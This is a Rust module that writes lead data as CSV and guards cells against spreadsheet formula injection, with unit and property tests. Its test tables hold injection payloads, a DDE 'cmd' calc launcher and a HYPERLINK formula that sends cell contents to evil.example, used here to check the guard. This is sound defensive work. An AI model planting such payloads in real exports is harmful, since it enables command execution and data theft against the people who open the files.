//! Writing the CSV: a header row of labels, then a row per lead; RFC 4180
//! quoting as the `csv` crate writes it (checked against it), UTF-8; the
//! formula guard. The defaults (no
//! BOM, `,`, CRLF) are the reference's dialect; `format` may ask for a BOM,
//! `;` or tab, and LF.

use std::borrow::Cow;
use std::io::Write;

use crate::fields::{FieldList, Part};
use crate::model::{Lead, Text};
use crate::request::{CsvFormat, LineEnding};

/// The cell as a spreadsheet may safely open it: a leading `'` when, after
/// any leading ASCII spaces, the cell starts with `=`, `@`, tab, CR or LF, or
/// starts with `+` or `-` and holds any character other than ASCII digits,
/// the ASCII space and `+ - ( ) . , /`. Phone numbers (`+1-555-0100`,
/// `+49 30 1234567`) and plain numbers (`-5`) stay as they are; `-1.5e3` is
/// guarded (the `e`).
///
/// "Whitespace" is the ASCII space only: a tab, a no-break space or any
/// other character after a leading sign gets the guard. Leading spaces are
/// skipped because LibreOffice's "Trim spaces" import option turns ` =1+1`
/// into a live formula. A cell already starting with `'`, a full-width `＝`
/// (U+FF1D), `﹦`, `⁼`, `＋`, `＠`, `−` (U+2212), a BOM or a no-break space
/// before `=` is left alone: LibreOffice keeps all of these as text
/// (`make spreadsheet-check`).
pub fn escape_formula(cell: &str) -> Cow<'_, str> {
    if needs_formula_guard(cell.as_bytes()) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether [`escape_formula`] prefixes `cell`; bytes only (every byte it
/// looks at is ASCII), the common cell decided by its first byte.
fn needs_formula_guard(cell: &[u8]) -> bool {
    let start = cell.iter().position(|&b| b != b' ').unwrap_or(cell.len());
    let rest = &cell[start..];
    match rest.first() {
        Some(b'=' | b'@' | b'\t' | b'\r' | b'\n') => true,
        Some(b'+' | b'-') => !rest[1..].iter().all(|&b| sign_may_precede(b)),
        _ => false,
    }
}

/// Whether a byte may follow a leading `+` or `-` without the guard.
fn sign_may_precede(b: u8) -> bool {
    b.is_ascii_digit() || matches!(b, b' ' | b'+' | b'-' | b'(' | b')' | b'.' | b',' | b'/')
}

/// [`needs_formula_guard`] of `items` joined with `", "`, without joining
/// them: the first item decides, unless it starts with a sign (after
/// spaces), when every later byte counts (the `", "` between items is
/// allowed after a sign); a first item of spaces only is followed by `,`.
fn list_needs_formula_guard(items: &[Text]) -> bool {
    let Some((first, rest)) = items.split_first() else {
        return false;
    };
    let first = first.as_bytes();
    match first.iter().position(|&b| b != b' ') {
        None => false,
        Some(at) => match first[at] {
            b'=' | b'@' | b'\t' | b'\r' | b'\n' => true,
            b'+' | b'-' => {
                !first[at + 1..].iter().all(|&b| sign_may_precede(b))
                    || rest.iter().any(|item| !item.bytes().all(sign_may_precede))
            }
            _ => false,
        },
    }
}

/// The UTF-8 byte order mark written first with `format.bom`.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The export's CSV dialect, RFC 4180 as the `csv` crate writes it with
/// `QuoteStyle::Necessary`: a cell holding the delimiter, `"`, CR or LF is
/// quoted (`"` doubled inside); a row whose only cell is empty is written
/// `""`; `format`'s delimiter and line ending. The writer is this module's
/// own (each cell goes straight into the row's bytes, with no record or
/// buffer in between: the per-row cost of the export); the property test
/// `rows_are_the_bytes_of_the_csv_crate` checks it against the `csv` crate
/// in every dialect, and `list_cells_are_the_bytes_of_the_csv_crate` the
/// lists joined into a cell. A cell is scanned for the bytes that quote it
/// and copied eight bytes at a time ([`Dialect::copy_plain`]), into room
/// grown ahead in the output ([`Row`]).
#[derive(Debug, Clone)]
struct Dialect {
    /// The bytes that make a cell quoted.
    special: [bool; 256],
    /// The delimiter in every byte of a word, for
    /// [`Dialect::word_is_special`].
    delimiters: u64,
    delimiter: u8,
    terminator: &'static [u8],
    escape_formulas: bool,
}

/// `byte` in every byte of a word.
const fn splat(byte: u8) -> u64 {
    u64::from_ne_bytes([byte; 8])
}

/// Whether a byte of `word` is zero (exact: a borrow only ever sets a bit
/// above a byte that is zero).
#[inline(always)]
fn has_zero_byte(word: u64) -> bool {
    word.wrapping_sub(splat(1)) & !word & splat(0x80) != 0
}

/// The eight bytes of `bytes` from `at` as a word.
#[inline(always)]
fn word_at(bytes: &[u8], at: usize) -> u64 {
    let mut word = [0; 8];
    word.copy_from_slice(&bytes[at..at + 8]);
    u64::from_ne_bytes(word)
}

/// The four bytes of `bytes` from `at` as a word.
#[inline(always)]
fn half_at(bytes: &[u8], at: usize) -> u32 {
    let mut word = [0; 4];
    word.copy_from_slice(&bytes[at..at + 4]);
    u32::from_ne_bytes(word)
}

/// Copies `src` to the start of `dst` a word at a time, as
/// [`Dialect::copy_plain`] does.
#[inline(always)]
fn copy_words(dst: &mut [u8], src: &[u8]) {
    let n = src.len();
    if n >= 8 {
        let mut at = 0;
        while at + 8 < n {
            dst[at..at + 8].copy_from_slice(&src[at..at + 8]);
            at += 8;
        }
        dst[n - 8..n].copy_from_slice(&src[n - 8..n]);
    } else if n >= 4 {
        dst[..4].copy_from_slice(&src[..4]);
        dst[n - 4..n].copy_from_slice(&src[n - 4..n]);
    } else {
        dst[..n].copy_from_slice(src);
    }
}

/// Whether `cell` holds a `"`; a word at a time, as
/// [`Dialect::copy_plain`] reads.
#[inline(always)]
fn has_quote(cell: &[u8]) -> bool {
    let n = cell.len();
    if n < 8 {
        return cell.contains(&b'"');
    }
    let mut at = 0;
    while at + 8 < n {
        if has_zero_byte(word_at(cell, at) ^ splat(b'"')) {
            return true;
        }
        at += 8;
    }
    has_zero_byte(word_at(cell, n - 8) ^ splat(b'"'))
}

/// Copies `src` to the start of `dst` with each `"` doubled; the bytes
/// written.
#[inline(always)]
fn copy_doubling(dst: &mut [u8], src: &[u8]) -> usize {
    if !has_quote(src) {
        copy_words(dst, src);
        return src.len();
    }
    let mut at = 0;
    for &b in src {
        dst[at] = b;
        at += 1;
        if b == b'"' {
            dst[at] = b'"';
            at += 1;
        }
    }
    at
}

/// The row being written into `out`: the bytes from `pos` on are room
/// (zeros, grown ahead of the writing in steps of [`Row::SLACK`]), so that a
/// cell is copied a word at a time rather than by a `memcpy` call each; cut
/// back to `pos` at the end of the row.
struct Row<'o> {
    out: &'o mut Vec<u8>,
    pos: usize,
}

impl<'o> Row<'o> {
    /// Room grown beyond what a cell needs, so most rows grow `out` once.
    const SLACK: usize = 1024;

    fn new(out: &'o mut Vec<u8>) -> Self {
        let pos = out.len();
        Row { out, pos }
    }

    /// At least `n` bytes of room after `pos`.
    #[inline(always)]
    fn room(&mut self, n: usize) -> &mut [u8] {
        if self.out.len() - self.pos < n {
            self.out.resize(self.pos + n + Self::SLACK, 0);
        }
        &mut self.out[self.pos..]
    }

    /// Appends `bytes`.
    #[inline(always)]
    fn push(&mut self, bytes: &[u8]) {
        let n = bytes.len();
        self.room(n)[..n].copy_from_slice(bytes);
        self.pos += n;
    }

    /// Cuts `out` back to what was written.
    fn finish(self) {
        self.out.truncate(self.pos);
    }
}

impl Dialect {
    fn new(format: &CsvFormat) -> Self {
        let delimiter = format.delimiter.byte();
        let mut special = [false; 256];
        for b in [delimiter, b'"', b'\r', b'\n'] {
            special[b as usize] = true;
        }
        Dialect {
            special,
            delimiters: splat(delimiter),
            delimiter,
            terminator: match format.line_ending {
                LineEnding::CrLf => b"\r\n",
                LineEnding::Lf => b"\n",
            },
            escape_formulas: format.escape_formulas,
        }
    }

    /// Whether a byte of `word` may make a cell quoted: a `"`, the
    /// delimiter, or a byte below 0x0E (CR, LF, tab and the other control
    /// bytes, which [`Dialect::word_is_special_exact`] then tells apart).
    /// The three tests share one final mask (see [`has_zero_byte`]; below
    /// 0x0E is the same test with 0x0E for 1).
    #[inline(always)]
    fn word_is_special(&self, word: u64) -> bool {
        let quote = word ^ splat(b'"');
        let delimiter = word ^ self.delimiters;
        (quote.wrapping_sub(splat(1)) & !quote
            | delimiter.wrapping_sub(splat(1)) & !delimiter
            | word.wrapping_sub(splat(0x0E)) & !word)
            & splat(0x80)
            != 0
            && self.word_is_special_exact(word)
    }

    /// Whether a byte of `word` is special, exactly (after
    /// [`Dialect::word_is_special`]'s test hit).
    #[cold]
    fn word_is_special_exact(&self, word: u64) -> bool {
        has_zero_byte(word ^ self.delimiters)
            | has_zero_byte(word ^ splat(b'"'))
            | has_zero_byte(word ^ splat(b'\r'))
            | has_zero_byte(word ^ splat(b'\n'))
    }

    /// Copies `cell` to the start of `dst` if it goes out unquoted (no
    /// byte of it is special) and says so; `false` (with `dst` partly
    /// written) if it needs quotes. Eight bytes at a time, the last word
    /// overlapping the one before; a short cell as two overlapping halves.
    #[inline(always)]
    fn copy_plain(&self, dst: &mut [u8], cell: &[u8]) -> bool {
        let n = cell.len();
        if n >= 8 {
            let mut at = 0;
            while at + 8 < n {
                let word = word_at(cell, at);
                if self.word_is_special(word) {
                    return false;
                }
                dst[at..at + 8].copy_from_slice(&word.to_ne_bytes());
                at += 8;
            }
            let word = word_at(cell, n - 8);
            dst[n - 8..n].copy_from_slice(&word.to_ne_bytes());
            !self.word_is_special(word)
        } else if n >= 4 {
            let (head, tail) = (half_at(cell, 0), half_at(cell, n - 4));
            dst[..4].copy_from_slice(&head.to_ne_bytes());
            dst[n - 4..n].copy_from_slice(&tail.to_ne_bytes());
            // Both halves as one word: every byte of it is the cell's.
            let word = u64::from(head) | (u64::from(tail) << 32);
            !self.word_is_special(word)
        } else {
            dst[..n].copy_from_slice(cell);
            !cell.iter().any(|&b| self.special[b as usize])
        }
    }

    /// Appends one cell and the delimiter after it; `guard` puts the
    /// formula guard's `'` first.
    #[inline(always)]
    fn push_cell(&self, row: &mut Row<'_>, cell: &[u8], guard: bool) {
        let n = cell.len();
        // Quoted, every byte a `"`, guarded: 2n + 3, and the delimiter.
        let dst = row.room(2 * n + 4);
        let g = usize::from(guard);
        dst[0] = b'\'';
        if self.copy_plain(&mut dst[g..], cell) {
            dst[g + n] = self.delimiter;
            row.pos += g + n + 1;
            return;
        }
        self.push_quoted(row, cell, guard);
    }

    /// Appends `cell` quoted (`"` doubled) and the delimiter.
    #[inline(never)]
    fn push_quoted(&self, row: &mut Row<'_>, cell: &[u8], guard: bool) {
        let dst = row.room(2 * cell.len() + 4);
        dst[0] = b'"';
        dst[1] = b'\'';
        let mut at = 1 + usize::from(guard);
        at += copy_doubling(&mut dst[at..], cell);
        dst[at] = b'"';
        dst[at + 1] = self.delimiter;
        row.pos += at + 2;
    }

    /// Appends the cell of a list of two values or more, joined with
    /// `", "`, quoted (the `,` of the separator is the delimiter: only
    /// called then), each value written once, straight into the row, and
    /// the delimiter.
    fn push_list(&self, row: &mut Row<'_>, items: &[Text], guard: bool) {
        debug_assert_eq!(self.delimiter, b',');
        let len = items.iter().map(Text::len).sum::<usize>() + 2 * items.len();
        let dst = row.room(2 * len + 4);
        dst[0] = b'"';
        dst[1] = b'\'';
        let mut at = 1 + usize::from(guard);
        for (i, item) in items.iter().enumerate() {
            if i > 0 {
                dst[at..at + 2].copy_from_slice(b", ");
                at += 2;
            }
            at += copy_doubling(&mut dst[at..], item.as_bytes());
        }
        dst[at] = b'"';
        dst[at + 1] = self.delimiter;
        row.pos += at + 2;
    }

    /// Ends the row that began at `start`: the last cell's delimiter
    /// replaced by the line ending, and `""` first when that cell was the
    /// only one and empty.
    fn end_row(&self, mut row: Row<'_>, start: usize) {
        if row.pos > start {
            row.pos -= 1;
        }
        if row.pos == start {
            row.push(b"\"\"");
        }
        row.push(self.terminator);
        row.finish();
    }
}

/// Renders the CSV a row at a time: the header (after the BOM with
/// `format.bom`), then a row per lead, each cell through the formula guard
/// when `format.escape_formulas` is on (the one place it is applied to a
/// CSV). One per file; it reuses its buffers from row to row.
pub struct RowWriter<'f> {
    fields: &'f FieldList,
    dialect: Dialect,
    bom: bool,
    row: Vec<u8>,
    scratch: String,
    rows: usize,
}

impl<'f> RowWriter<'f> {
    /// A writer of `fields` with `format`.
    pub fn new(fields: &'f FieldList, format: &CsvFormat) -> Self {
        RowWriter {
            fields,
            dialect: Dialect::new(format),
            bom: format.bom,
            row: Vec::with_capacity(512),
            scratch: String::new(),
            rows: 0,
        }
    }

    /// The bytes of the header row (with the BOM first when asked for).
    pub fn header(&mut self) -> &[u8] {
        let mut row = std::mem::take(&mut self.row);
        row.clear();
        self.header_into(&mut row);
        self.row = row;
        &self.row
    }

    /// The bytes of the row of `lead`.
    pub fn row(&mut self, lead: &Lead) -> &[u8] {
        let mut row = std::mem::take(&mut self.row);
        row.clear();
        self.row_into(lead, &mut row);
        self.row = row;
        &self.row
    }

    /// Appends the header row (with the BOM first when asked for) to `out`.
    pub fn header_into(&mut self, out: &mut Vec<u8>) {
        if self.bom {
            out.extend_from_slice(BOM);
        }
        let start = out.len();
        let mut row = Row::new(out);
        for column in self.fields.columns() {
            self.dialect
                .push_cell(&mut row, column.header.as_bytes(), false);
        }
        self.dialect.end_row(row, start);
    }

    /// Appends the row of `lead` to `out`.
    pub fn row_into(&mut self, lead: &Lead, out: &mut Vec<u8>) {
        let RowWriter {
            fields,
            dialect,
            scratch,
            ..
        } = self;
        let start = out.len();
        let mut row = Row::new(out);
        // A list of two values or more is quoted when the delimiter is `,`
        // (the separator's): written straight from the values.
        let lists = dialect.delimiter == b',';
        for column in fields.columns() {
            if lists && column.part == Part::Whole && !column.required {
                if let Some(items @ [_, _, ..]) = column.field.list(lead) {
                    let guard = dialect.escape_formulas && list_needs_formula_guard(items);
                    dialect.push_list(&mut row, items, guard);
                    continue;
                }
            }
            let cell = match column.cell_into(lead, scratch) {
                Some(cell) => cell,
                None => scratch.as_str(),
            };
            let guard = dialect.escape_formulas && needs_formula_guard(cell.as_bytes());
            dialect.push_cell(&mut row, cell.as_bytes(), guard);
        }
        dialect.end_row(row, start);
        self.rows += 1;
    }

    /// Lead rows rendered so far.
    pub fn rows(&self) -> usize {
        self.rows
    }
}

/// Writes the header and one row per lead to `out`, 64 KB at a time.
pub fn write_csv<W: Write>(
    mut out: W,
    fields: &FieldList,
    leads: &[Lead],
    format: &CsvFormat,
) -> std::io::Result<W> {
    const CHUNK: usize = 64 << 10;
    let mut csv = RowWriter::new(fields, format);
    let mut buf = Vec::with_capacity(CHUNK + 4096);
    csv.header_into(&mut buf);
    for lead in leads {
        csv.row_into(lead, &mut buf);
        if buf.len() >= CHUNK {
            out.write_all(&buf)?;
            buf.clear();
        }
    }
    out.write_all(&buf)?;
    Ok(out)
}

/// The whole CSV in memory.
pub fn to_csv(fields: &FieldList, leads: &[Lead], format: &CsvFormat) -> Vec<u8> {
    write_csv(Vec::new(), fields, leads, format).expect("writing to a Vec cannot fail")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fields::Field;

    #[test]
    fn quotes_what_needs_quoting() {
        let lead = Lead {
            id: "1".into(),
            first_name: "Jane".into(),
            last_name: "O\"Neil".into(),
            emails: Some(vec!["a@x.com".into(), "b@y.com".into()]),
            job_title: Some("Head of\nSales".into()),
            city: Some("Zürich".into()),
            ..Lead::default()
        };
        let fields = FieldList::from_ids(
            [Field::Name, Field::Emails, Field::JobTitle, Field::City].map(Field::id),
        )
        .unwrap();
        let csv = String::from_utf8(to_csv(&fields, &[lead], &CsvFormat::default())).unwrap();
        assert_eq!(
            csv,
            "Name,Email(s),Job Title,City\r\n\"Jane O\"\"Neil\",\"a@x.com, b@y.com\",\"Head of\nSales\",Zürich\r\n"
        );
    }

    #[test]
    fn header_only_when_no_rows() {
        let csv = to_csv(&FieldList::defaults(), &[], &CsvFormat::default());
        assert_eq!(
            String::from_utf8(csv).unwrap(),
            "Name,Email(s),Phone(s),LinkedIn URL,City,Country,Job Title,Company Name\r\n"
        );
    }

    /// (cell, guarded?) for every documented example and the edge cases.
    const CASES: &[(&str, bool)] = &[
        // Formulas and their starts.
        ("=1+1", true),
        ("@SUM(A1)", true),
        ("+SUM(A1)", true),
        ("-2+3+cmd|'/C calc'!A0", true),
        ("=HYPERLINK(\"https://evil.example/?\"&A2&B2,\"x\")", true),
        ("=cmd|' /C calc'!A0", true),
        ("@", true),
        ("=", true),
        ("\t=1", true),
        ("\t", true),
        ("\r\n=1", true),
        ("\n", true),
        ("\rx", true),
        ("-1.5e3", true),
        ("+1 555 0100 ext. 12", true),
        ("-x", true),
        ("+-", false),
        ("+1\t555", true),
        ("+1\u{a0}555", true),
        ("-\u{2212}5", true),
        ("+A1", true),
        ("-5%", true),
        // Phones and numbers stay.
        ("+1-555-0100", false),
        ("+49 30 1234567", false),
        ("+1-555-0100, +1-555-0101", false),
        ("+1 (555) 010-0100", false),
        ("+33.1.23.45.67.89", false),
        ("+1/555/0100", false),
        ("-5", false),
        ("-1.5", false),
        ("-", false),
        ("+", false),
        ("--", false),
        ("12", false),
        // Not a first-character trigger.
        ("", false),
        ("'=1", false),
        ("' =1", false),
        (" =1", true),
        ("   @SUM(A1)", true),
        ("  +SUM(A1)", true),
        (" \t", true),
        (" -5", false),
        (" +1-555-0100", false),
        (" ", false),
        ("\u{a0}=1", false),
        ("\u{3000}=1", false),
        ("a=1", false),
        ("\u{feff}=1", false),
        ("\u{ff1d}1+1", false),
        ("\u{ff0b}SUM(A1)", false),
        ("\u{ff20}SUM(A1)", false),
        ("\u{2212}2+3", false),
        ("\u{fe66}1+1", false),
        ("Head of Sales", false),
        ("Zürich", false),
    ];

    #[test]
    fn formula_guard_table() {
        for &(cell, guarded) in CASES {
            let out = escape_formula(cell);
            if guarded {
                assert_eq!(out, format!("'{cell}"), "{cell:?} should be guarded");
                assert!(matches!(out, Cow::Owned(_)));
            } else {
                assert!(
                    matches!(out, Cow::Borrowed(c) if c == cell),
                    "{cell:?} should stay, got {out:?}"
                );
            }
        }
    }

    #[test]
    fn the_guard_applies_to_every_cell_of_a_row_and_can_be_turned_off() {
        let lead = Lead {
            id: "1".into(),
            first_name: "=1+1".into(),
            last_name: "x".into(),
            phones: Some(vec!["+1-555-0100".into(), "+1-555-0101".into()]),
            job_title: Some("-2+3+cmd|'/C calc'!A0".into()),
            city: Some("@SUM(A1)".into()),
            ..Lead::default()
        };
        let fields = FieldList::from_ids(
            [Field::Name, Field::Phones, Field::JobTitle, Field::City].map(Field::id),
        )
        .unwrap();
        let on = String::from_utf8(to_csv(
            &fields,
            std::slice::from_ref(&lead),
            &CsvFormat::default(),
        ));
        assert_eq!(
            on.unwrap(),
            "Name,Phone(s),Job Title,City\r\n'=1+1 x,\"+1-555-0100, +1-555-0101\",'-2+3+cmd|'/C calc'!A0,'@SUM(A1)\r\n"
        );
        let off = CsvFormat {
            escape_formulas: false,
            ..CsvFormat::default()
        };
        let off = String::from_utf8(to_csv(&fields, &[lead], &off));
        assert_eq!(
            off.unwrap(),
            "Name,Phone(s),Job Title,City\r\n=1+1 x,\"+1-555-0100, +1-555-0101\",-2+3+cmd|'/C calc'!A0,@SUM(A1)\r\n"
        );
    }

    /// Cells from every kind of text: any Unicode, CSV specials, triggers.
    fn any_cell() -> impl proptest::strategy::Strategy<Value = String> {
        use proptest::prelude::*;
        let piece = prop_oneof![
            any::<char>().prop_map(String::from),
            prop::sample::select(vec![
                "=", "@", "+", "-", "\t", "\r", "\n", "\r\n", "\"", ",", "'", " ", "1", "(", "e",
                "\u{ff1d}", "\u{feff}",
            ])
            .prop_map(String::from),
        ];
        prop::collection::vec(piece, 0..12).prop_map(|p| p.concat())
    }

    /// The columns [`lead_of`] fills, in order.
    const CELL_FIELDS: [Field; 4] = [Field::JobTitle, Field::City, Field::Country, Field::Emails];

    /// A lead whose `CELL_FIELDS` hold `cells` (1 to 4): one each, the
    /// emails the rest from the fourth (or the last) on.
    /// The header and `lead`'s row as the `csv` crate writes them in
    /// `format`'s dialect (without a BOM), each cell formula-guarded when
    /// `format` asks: the reference the writer is checked against.
    fn csv_crate_bytes(fields: &FieldList, lead: &Lead, format: &CsvFormat) -> Vec<u8> {
        let terminator = match format.line_ending {
            LineEnding::Lf => csv::Terminator::Any(b'\n'),
            LineEnding::CrLf => csv::Terminator::CRLF,
        };
        let mut w = csv::WriterBuilder::new()
            .delimiter(format.delimiter.byte())
            .terminator(terminator)
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(Vec::new());
        w.write_record(fields.columns().iter().map(|c| c.header))
            .unwrap();
        for field in fields.fields() {
            let cell = field.cell(lead);
            let cell = if format.escape_formulas {
                escape_formula(&cell)
            } else {
                cell
            };
            w.write_field(cell.as_bytes()).unwrap();
        }
        w.write_record(None::<&[u8]>).unwrap();
        w.into_inner().unwrap()
    }

    fn texts(cells: &[String]) -> Vec<Text> {
        cells.iter().map(|c| c.as_str().into()).collect()
    }

    fn lead_of(cells: &[String]) -> Lead {
        Lead {
            id: "1".into(),
            job_title: Some(cells[0].as_str().into()),
            city: cells.get(1).map(|c| c.as_str().into()),
            country: cells.get(2).map(|c| c.as_str().into()),
            emails: Some(
                cells[3.min(cells.len() - 1)..]
                    .iter()
                    .map(|c| c.as_str().into())
                    .collect(),
            ),
            ..Lead::default()
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

        /// Written and read back by a strict reader of the same dialect,
        /// every cell equals the guarded value (or the value, guard off).
        #[test]
        fn cells_round_trip_through_a_strict_reader(
            cells in proptest::collection::vec(any_cell(), 1..5),
            escape in proptest::prelude::any::<bool>(),
        ) {
            let lead = lead_of(&cells);
            let fields = FieldList::from_ids(CELL_FIELDS.map(Field::id)).unwrap();
            let format = CsvFormat { escape_formulas: escape, ..CsvFormat::default() };
            let bytes = to_csv(&fields, std::slice::from_ref(&lead), &format);
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(true)
                .flexible(false)
                .terminator(csv::Terminator::CRLF)
                .from_reader(&bytes[..]);
            let rows: Vec<csv::StringRecord> =
                reader.records().collect::<Result<_, _>>().unwrap();
            proptest::prop_assert_eq!(rows.len(), 1);
            let expected: Vec<String> = fields
                .fields()
                .iter()
                .map(|f| {
                    let cell = f.cell(&lead);
                    if escape { escape_formula(&cell).into_owned() } else { cell.into_owned() }
                })
                .collect();
            let got: Vec<&str> = rows[0].iter().collect();
            proptest::prop_assert_eq!(got, expected);
        }

        /// The guard adds one `'` or nothing, and a guarded cell no longer
        /// starts with a trigger.
        #[test]
        fn the_guard_only_prefixes(cell in any_cell()) {
            let out = escape_formula(&cell);
            if out.len() != cell.len() {
                proptest::prop_assert_eq!(&*out, format!("'{cell}"));
            } else {
                proptest::prop_assert_eq!(&*out, cell.as_str());
                let first = cell.trim_start_matches(' ').chars().next();
                proptest::prop_assert!(!matches!(first, Some('=' | '@' | '\t' | '\r' | '\n')));
            }
        }

        /// The rows are the bytes the `csv` crate writes for the same cells
        /// (`QuoteStyle::Necessary`, each guarded cell by `write_field`), in
        /// every dialect; one empty cell alone included (`""`).
        #[test]
        fn rows_are_the_bytes_of_the_csv_crate(
            cells in proptest::collection::vec(any_cell(), 1..5),
            escape in proptest::prelude::any::<bool>(),
            bom in proptest::prelude::any::<bool>(),
            delimiter in proptest::sample::select(vec![
                crate::request::Delimiter::Comma,
                crate::request::Delimiter::Semicolon,
                crate::request::Delimiter::Tab,
            ]),
            lf in proptest::prelude::any::<bool>(),
        ) {
            let lead = lead_of(&cells);
            let ids = CELL_FIELDS.map(Field::id);
            let fields = FieldList::from_ids(ids[..cells.len().min(4)].iter().copied()).unwrap();
            let format = CsvFormat {
                escape_formulas: escape,
                bom,
                delimiter,
                line_ending: if lf { LineEnding::Lf } else { LineEnding::CrLf },
            };
            let got = to_csv(&fields, std::slice::from_ref(&lead), &format);
            let mut expected = if bom { BOM.to_vec() } else { Vec::new() };
            expected.extend(csv_crate_bytes(&fields, &lead, &format));
            proptest::prop_assert_eq!(&got, &expected);
            // The same bytes a row at a time, and through write_csv.
            let mut rows = RowWriter::new(&fields, &format);
            let mut pieces = rows.header().to_vec();
            pieces.extend_from_slice(rows.row(&lead));
            proptest::prop_assert_eq!(&pieces, &expected);
            let written = write_csv(Vec::new(), &fields, std::slice::from_ref(&lead), &format).unwrap();
            proptest::prop_assert_eq!(written, expected);
        }

        /// Lists of any length (joined into one cell) are the bytes the
        /// `csv` crate writes for the joined cells, in every dialect.
        #[test]
        fn list_cells_are_the_bytes_of_the_csv_crate(
            lists in proptest::collection::vec(proptest::collection::vec(any_cell(), 0..4), 3),
            escape in proptest::prelude::any::<bool>(),
            delimiter in proptest::sample::select(vec![
                crate::request::Delimiter::Comma,
                crate::request::Delimiter::Semicolon,
                crate::request::Delimiter::Tab,
            ]),
        ) {
            let lead = Lead {
                id: "1".into(),
                emails: Some(texts(&lists[0])),
                skills: Some(texts(&lists[1])),
                company: Some(crate::model::Company {
                    phones: Some(texts(&lists[2])),
                    ..Default::default()
                }),
                ..Lead::default()
            };
            let fields = FieldList::from_ids(
                [Field::Emails, Field::Skills, Field::CompanyPhone].map(Field::id),
            )
            .unwrap();
            let format = CsvFormat { escape_formulas: escape, delimiter, ..CsvFormat::default() };
            let got = to_csv(&fields, std::slice::from_ref(&lead), &format);
            proptest::prop_assert_eq!(got, csv_crate_bytes(&fields, &lead, &format));
        }

        /// The byte-wise guard decides as the definition reads: skip ASCII
        /// spaces, then the first character.
        #[test]
        fn the_byte_wise_guard_is_the_definition(cell in any_cell()) {
            let rest = cell.trim_start_matches(' ');
            let expected = match rest.chars().next() {
                Some('=' | '@' | '\t' | '\r' | '\n') => true,
                Some('+' | '-') => !rest.chars().skip(1).all(|c| {
                    c.is_ascii_digit() || " +-().,/".contains(c)
                }),
                _ => false,
            };
            proptest::prop_assert_eq!(needs_formula_guard(cell.as_bytes()), expected);
        }
    }
}
